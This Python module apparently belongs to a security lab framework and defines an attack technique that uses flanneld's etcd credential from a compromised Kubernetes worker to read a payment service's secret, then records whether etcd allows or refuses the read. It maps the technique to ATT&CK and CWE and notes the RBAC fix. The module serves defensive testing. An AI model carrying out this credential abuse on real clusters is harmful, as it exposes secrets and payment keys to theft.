"""Read the cluster's secrets from etcd with the credential of flanneld.

flanneld runs on every worker and keeps the layout of the pod network in etcd, so every worker
holds a credential for etcd. The attacker needs root on a worker, or a copy of the credential.
They ask etcd for a secret of the cluster. Without users in etcd, flanneld's credential reads
every key. Users that hold each client to its own keys stop it.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model, read_model
from labkit.model.credentials import client_credential
from labkit.model.etcd_rights import KeyRange
from labkit.techniques._lib.stores.etcd import (
    as_client,
    flannels_key,
    may_as_client,
    refusal_in,
    stores_plaintext,
)
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    Technique,
    then,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WORKER = "worker1"
CHANNEL = f"flanneld@{WORKER} -> etcd@*"
WANTED = ("payments", "card-processor", "api-key")
KEY = "/registry/secrets/payments/card-processor"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether etcd lets flanneld read a secret's key, and stores it in plaintext."""
    channel = model.open_channels(CHANNEL)[0]
    reads = may_as_client(model, channel, "read", KeyRange.one(KEY))
    return then(reads, stores_plaintext(model))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask etcd for a secret with flanneld's credential."""
    secret = true_secret(lab, *WANTED)
    model = read_model(lab.environment)
    channel = model.open_channels(CHANNEL)[0]
    credential = client_credential(model, channel)
    what = "with flanneld's certificate" if credential else "as flanneld does, without a credential"
    evidence = f"asked etcd for {KEY}, {what}"
    with as_client(lab, foothold, channel, credential) as call:
        answer = call("get", "--print-value-only", KEY)
        control = flannels_key(call)
    if secret.found_in(answer.stdout):
        found = f"read: {secret.proof}"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "etcd gives it", (evidence, found))
    if answer.stdout.startswith(b"k8s:enc:"):
        reason = "the value is a ciphertext"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (evidence,), control)
    reason = refusal_in(answer)
    if not answer.exit_code or not reason:
        said = answer.error.strip().splitlines()[-3:]
        raise ProbeError("etcd gave neither the value nor a known refusal", evidence=said)
    return Verdict(
        TECHNIQUE.name, lab.mode, foothold, False, f"etcd: {reason}", (evidence,), control
    )


TECHNIQUE = Technique(
    name="flannel-credential",
    title="Read the cluster's secrets with flannel's way into etcd",
    footholds=(ROOT_ON_WORKER, COPIED_CREDENTIAL),
    grants=(SECRETS,),
    about="flanneld@* -> etcd@*",
    properties=("client_authentication", "authorization"),
    attack=("T1552.004", "T1552.007"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-269", "CWE-653"),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://etcd.io/docs/latest/op-guide/authentication/rbac/",
        "https://attack.mitre.org/techniques/T1552/004/",
    ),
    predict=predict,
    execute=execute,
    leaves=("file",),
)
